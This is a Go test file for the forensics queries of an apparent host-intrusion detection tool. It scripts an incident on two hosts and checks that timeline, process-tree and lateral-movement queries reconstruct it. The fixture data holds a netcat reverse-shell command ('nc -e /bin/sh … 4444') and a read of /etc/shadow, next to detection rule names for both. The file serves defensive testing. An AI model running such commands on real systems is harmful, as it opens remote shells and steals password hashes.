package forensics

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tripwire-project/tripwire/proto/chain"
)

// incidentHost is one host of the scripted incident: the attacker touches a decoy
// port, gets a shell, runs nc, and reads /etc/shadow with it.
type incidentHost struct {
	name          string
	at            time.Time // the decoy touch
	shell, nc     int32     // pids
	sshd          int32
	srcIP         string
	extraNetwork  bool // a connection from another IP, which must not match
	fillerBetween int  // unrelated FILE events, to rotate segments
}

func ip(i int64) *int64 { return &i }

// incidentPayloads returns the chain of one host; the returned map names the seq of
// each step ("decoy", "shell", "nc", "shadow").
func incidentPayloads(h incidentHost) ([]chain.Payload, map[string]uint64) {
	var ps []chain.Payload
	seqs := map[string]uint64{}
	add := func(name string, p chain.Payload) {
		ps = append(ps, p)
		if name != "" {
			seqs[name] = uint64(len(ps))
		}
	}
	add("start", chain.Payload{Time: h.at.Add(-time.Hour), Kind: chain.KindAgent,
		Notice: &chain.Notice{What: "agent_started", Message: "tripwire started on " + h.name}})
	for i := range h.fillerBetween {
		p := fileEvent(i)
		p.Time = h.at.Add(-30*time.Minute + time.Duration(i)*time.Second)
		p.Event.Path, p.Event.Rule, p.Event.Severity = "/srv/www/index.html", "www-write", chain.SeverityInfo
		add("", p)
	}
	if h.extraNetwork {
		add("other", chain.Payload{Time: h.at.Add(-time.Minute), Kind: chain.KindEvent, Event: &chain.Event{
			Type: chain.TypeNetwork, Rule: "decoy-ssh", Severity: chain.SeverityCritical, Source: "decoy",
			Protocol: "tcp", Direction: "inbound", Mode: "decoy", SrcIP: "10.0.0.5", SrcPort: 40000, DstIP: "10.0.1.10", DstPort: 2222}})
	}
	add("decoy", chain.Payload{Time: h.at, Kind: chain.KindEvent, Event: &chain.Event{
		Type: chain.TypeNetwork, Rule: "decoy-ssh", Severity: chain.SeverityCritical, Source: "decoy",
		Protocol: "tcp", Direction: "inbound", Mode: "decoy", SrcIP: h.srcIP, SrcPort: 51515, DstIP: "10.0.1.10", DstPort: 2222,
		FirstBytes: `"SSH-2.0-libssh_0.9.6\r\n"`}})
	add("shell", chain.Payload{Time: h.at.Add(2 * time.Second), Kind: chain.KindEvent, Event: &chain.Event{
		Type: chain.TypeProcess, Rule: "shell-from-network-service", Severity: chain.SeverityWarn, Source: "ebpf",
		PID: h.shell, PPID: h.sshd, UID: ip(33), User: "www-data", Exe: "/usr/bin/bash", Cmdline: "bash -i", ParentExe: "/usr/sbin/sshd"}})
	add("nc", chain.Payload{Time: h.at.Add(3 * time.Second), Kind: chain.KindEvent, Event: &chain.Event{
		Type: chain.TypeProcess, Rule: "netcat-exec", Severity: chain.SeverityCritical, Source: "ebpf",
		PID: h.nc, PPID: h.shell, UID: ip(33), User: "www-data", Exe: "/usr/bin/nc.openbsd",
		Cmdline: "nc -e /bin/sh " + h.srcIP + " 4444", ParentExe: "/usr/bin/bash"}})
	add("shadow", chain.Payload{Time: h.at.Add(4 * time.Second), Kind: chain.KindEvent, Event: &chain.Event{
		Type: chain.TypeFile, Rule: "shadow-read", Severity: chain.SeverityCritical, Source: "fanotify",
		Path: "/etc/shadow", Op: "read", Count: 1, PID: h.nc, PPID: h.shell, UID: ip(33), User: "www-data",
		Exe: "/usr/bin/nc.openbsd", Cmdline: "nc -e /bin/sh " + h.srcIP + " 4444"}})
	add("stop", chain.Payload{Time: h.at.Add(time.Hour), Kind: chain.KindAgent, Notice: &chain.Notice{What: "agent_stopped"}})
	return ps, seqs
}

var incident = []incidentHost{
	{name: "web-01", at: t0.Add(time.Minute), sshd: 800, shell: 900, nc: 1000, srcIP: "10.0.0.66", fillerBetween: 40},
	{name: "db-01", at: t0.Add(2 * time.Minute), sshd: 700, shell: 1900, nc: 2000, srcIP: "10.0.0.66", extraNetwork: true, fillerBetween: 5},
}

// incidentExport writes both chains with the agent's writer (rotating segments) and
// returns one SQL script holding both (two exports concatenated, as an analyst piping
// two seized hosts into one case.db does), the chain directories and the step seqs.
func incidentExport(t *testing.T) (script string, dirs []string, seqs []map[string]uint64) {
	t.Helper()
	var parts []string
	for _, h := range incident {
		dir := filepath.Join(t.TempDir(), h.name)
		ps, _ := incidentPayloads(h)
		writeChain(t, dir, 4<<10, ps...)
		dirs, seqs = append(dirs, dir), append(seqs, stepSeqs(t, dir, h))
		parts = append(parts, exportString(t, dirSource(t, dir, h.name), Options{}))
	}
	return mergeScripts(t, parts...), dirs, seqs
}

// mergeScripts concatenates exports, as an analyst piping each seized host's export
// into one case.db does: the tables are created once and the rows add up.
func mergeScripts(t *testing.T, scripts ...string) string {
	t.Helper()
	return strings.Join(scripts, "")
}

func cannedQuery(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "sql", "forensics", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestIncidentCannedQueries(t *testing.T) {
	script, dirs, seqs := incidentExport(t)
	for _, d := range dirs {
		if n := len(segFiles(t, d)); d == dirs[0] && n < 2 {
			t.Fatalf("web-01 chain should rotate, has %d segment(s)", n)
		}
	}
	db := loadScript(t, script)
	if got := rows(t, db, "SELECT * FROM chain_breaks"); len(got) != 0 {
		t.Fatalf("chain_breaks on an intact incident: %q", got)
	}
	web, dbh := seqs[0], seqs[1]
	set := func(kv ...string) {
		t.Helper()
		for _, v := range []string{"host", "seq", "src_ip", "cmdline", "sensitive", "from_ts", "to_ts"} {
			if _, err := db.Exec("RESET VARIABLE " + v); err != nil {
				t.Fatal(err)
			}
		}
		for i := 0; i < len(kv); i += 2 {
			if _, err := db.Exec("SET VARIABLE " + kv[i] + " = " + string(AppendSQLString(nil, []byte(kv[i+1])))); err != nil {
				t.Fatal(err)
			}
		}
	}
	itoa := formatUint

	t.Run("timeline", func(t *testing.T) {
		set("host", "web-01", "from_ts", "2026-11-25 06:01:00", "to_ts", "2026-11-25 06:01:05")
		got := rows(t, db, "SELECT seq, kind, tripwire_type, rule_name, what, pid, ppid FROM ("+strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "timeline.sql")), ";")+")")
		want := []string{
			itoa(web["decoy"]) + "|event|NETWORK|decoy-ssh|10.0.0.66:51515 -> 10.0.1.10:2222|NULL|NULL",
			itoa(web["shell"]) + "|event|PROCESS|shell-from-network-service|/usr/bin/bash|900|800",
			itoa(web["nc"]) + "|event|PROCESS|netcat-exec|/usr/bin/nc.openbsd|1000|900",
			itoa(web["shadow"]) + "|event|FILE|shadow-read|/etc/shadow|1000|900",
		}
		if !slices.Equal(got, want) {
			t.Fatalf("timeline:\n got %q\nwant %q", got, want)
		}
		set("host", "db-01")
		all := rows(t, db, "SELECT kind, what FROM ("+strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "timeline.sql")), ";")+")")
		if all[0] != "agent|agent_started" || all[len(all)-1] != "agent|agent_stopped" {
			t.Fatalf("db-01 timeline should run from agent start to stop: %q", all)
		}
	})

	t.Run("process_tree", func(t *testing.T) {
		set("host", "web-01", "seq", itoa(web["shadow"]))
		got := rows(t, db, strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "process_tree.sql")), ";"))
		want := []string{
			"0|" + itoa(web["shadow"]) + "|2026-11-25T06:01:04Z|FILE|shadow-read|1000|900|www-data|/usr/bin/nc.openbsd|nc -e /bin/sh 10.0.0.66 4444|/etc/shadow",
			"1|" + itoa(web["nc"]) + "|2026-11-25T06:01:03Z|PROCESS|netcat-exec|1000|900|www-data|/usr/bin/nc.openbsd|nc -e /bin/sh 10.0.0.66 4444|NULL",
			"2|" + itoa(web["shell"]) + "|2026-11-25T06:01:02Z|PROCESS|shell-from-network-service|900|800|www-data|/usr/bin/bash|bash -i|NULL",
		}
		if !slices.Equal(got, want) {
			t.Fatalf("process tree:\n got %q\nwant %q", got, want)
		}
		// From an exec alert: the alert, then its parent.
		set("host", "db-01", "seq", itoa(dbh["nc"]))
		got = rows(t, db, "SELECT depth, seq, pid FROM ("+strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "process_tree.sql")), ";")+")")
		want = []string{"0|" + itoa(dbh["nc"]) + "|2000", "1|" + itoa(dbh["shell"]) + "|1900"}
		if !slices.Equal(got, want) {
			t.Fatalf("process tree of an exec alert:\n got %q\nwant %q", got, want)
		}
	})

	t.Run("sensitive_reads", func(t *testing.T) {
		set()
		got := rows(t, db, "SELECT hostname, seq, path, pid, exe, ppid, parent_exe, parent_cmdline FROM ("+strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "sensitive_reads.sql")), ";")+")")
		want := []string{
			"web-01|" + itoa(web["shadow"]) + "|/etc/shadow|1000|/usr/bin/nc.openbsd|900|/usr/bin/bash|bash -i",
			"db-01|" + itoa(dbh["shadow"]) + "|/etc/shadow|2000|/usr/bin/nc.openbsd|1900|/usr/bin/bash|bash -i",
		}
		if !slices.Equal(got, want) {
			t.Fatalf("sensitive reads:\n got %q\nwant %q", got, want)
		}
	})

	t.Run("lateral_movement", func(t *testing.T) {
		set("src_ip", "10.0.0.66")
		got := rows(t, db, "SELECT hostname, seq, src_ip, dst_port, mode, host_rank, hosts_reached FROM ("+strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "lateral_movement.sql")), ";")+")")
		want := []string{
			"web-01|" + itoa(web["decoy"]) + "|10.0.0.66|2222|decoy|1|2",
			"db-01|" + itoa(dbh["decoy"]) + "|10.0.0.66|2222|decoy|2|2",
		}
		if !slices.Equal(got, want) {
			t.Fatalf("lateral movement:\n got %q\nwant %q", got, want)
		}
	})

	t.Run("cmdline_sightings", func(t *testing.T) {
		set("cmdline", "nc -e%")
		got := rows(t, db, strings.TrimSuffix(strings.TrimSpace(cannedQuery(t, "cmdline_sightings.sql")), ";"))
		want := []string{
			"nc -e /bin/sh 10.0.0.66 4444|2026-11-25T06:01:03Z|web-01|" + itoa(web["nc"]) + "|2026-11-25T06:02:04Z|db-01|" + itoa(dbh["shadow"]) + "|2|db-01,web-01|4",
		}
		if !slices.Equal(got, want) {
			t.Fatalf("cmdline sightings:\n got %q\nwant %q", got, want)
		}
	})
}

// stepSeqs finds the seq each step got in the written chain (anchors shift them).
func stepSeqs(t *testing.T, dir string, h incidentHost) map[string]uint64 {
	t.Helper()
	m := map[string]uint64{}
	err := dirSource(t, dir, h.name).Entries(context.Background(), h.name, func(e *Entry) error {
		var p chain.Payload
		if err := json.Unmarshal(e.Payload, &p); err != nil {
			return err
		}
		if p.Event == nil {
			return nil
		}
		switch {
		case p.Event.Rule == "decoy-ssh" && p.Event.SrcIP == h.srcIP:
			m["decoy"] = e.Seq
		case p.Event.Rule == "shell-from-network-service":
			m["shell"] = e.Seq
		case p.Event.Rule == "netcat-exec":
			m["nc"] = e.Seq
		case p.Event.Rule == "shadow-read":
			m["shadow"] = e.Seq
		}
		return nil
	})
	if err != nil || len(m) != 4 {
		t.Fatalf("finding the steps in %s: %v %v", dir, m, err)
	}
	return m
}
